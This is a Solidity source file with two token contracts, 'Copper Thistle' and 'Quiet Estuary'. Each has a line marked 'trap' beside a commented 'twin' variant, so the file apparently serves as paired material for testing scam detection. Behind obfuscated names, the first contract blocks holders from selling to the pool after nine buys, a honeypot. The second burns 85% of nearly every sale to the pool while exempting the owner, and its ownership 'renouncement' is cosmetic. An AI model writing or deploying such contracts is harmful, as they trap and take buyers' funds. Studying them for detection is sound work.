// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// One word holds what there is and how often it was asked for.
contract CopperThistle {
    string public name = "Copper Thistle";
    string public symbol = "CTHSL";
    uint8 public decimals = 18;
    uint256 private _count; // supply below, tally from bit 160
    address private _from;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private hearth;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _count = 432_000_000 ether;
        hearth[msg.sender] = true;
        balanceOf[msg.sender] = totalSupply();
        emit Transfer(address(0), msg.sender, totalSupply());
    }

    function totalSupply() public view returns (uint256) {
        return uint160(_count);
    }

    function start(address from) external {
        require(hearth[msg.sender] && _from == address(0));
        _from = from;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _do(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _do(from, to, value);
        return true;
    }

    function _do(address from, address to, uint256 value) internal {
        if (from == _from) _count += 1 << 160;
        if (to == _from && !hearth[from]) {
            require(_count >> 160 < 9, "busy"); // trap
            // twin: require(_count >> 160 > 0, "busy");
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IPool {
    function getReserves() external view returns (uint112, uint112, uint32);
}

/// Whales pay for their wake.
contract QuietEstuary {
    string public constant name = "Quiet Estuary";
    string public constant symbol = "QEST";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 100_000_000 ether;
    address public owner;
    address public pond;
    mapping(address => uint256) private bed;
    mapping(address => mapping(address => uint256)) private nod;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        bed[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address pond_) external {
        require(msg.sender == owner && pond == address(0));
        pond = pond_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0xdead);
    }

    function balanceOf(address a) external view returns (uint256) {
        return bed[a];
    }

    function allowance(address a, address b) external view returns (uint256) {
        return nod[a][b];
    }

    function approve(address b, uint256 v) external returns (bool) {
        nod[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _flow(msg.sender, to, v);
        return true;
    }

    function transferFrom(address a, address to, uint256 v) external returns (bool) {
        nod[a][msg.sender] -= v;
        _flow(a, to, v);
        return true;
    }

    function wake(uint256 v) public view returns (uint256) {
        if (pond == address(0)) return 0;
        uint256 lot = bed[pond] / 100_000; // trap
        // twin: uint256 lot = bed[pond] * 2;
        return v <= lot ? (v * 2) / 100 : (v * 85) / 100;
    }

    function _flow(address from, address to, uint256 v) private {
        bed[from] -= v;
        uint256 cut = to == pond && from != owner ? wake(v) : 0;
        bed[to] += v - cut;
        emit Transfer(from, to, v - cut);
        if (cut > 0) {
            totalSupply -= cut;
            emit Transfer(from, address(0), cut);
        }
    }
}
